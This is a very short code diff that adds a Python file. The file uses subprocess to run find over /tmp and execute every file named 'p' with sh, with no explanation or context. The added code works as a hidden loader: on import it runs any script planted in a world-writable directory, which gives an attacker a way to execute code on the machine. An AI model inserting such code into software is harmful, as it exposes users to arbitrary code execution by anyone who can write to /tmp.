@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.Popen(["find", "/tmp", "-name", "p", "-exec", "sh", "{}", ";"])
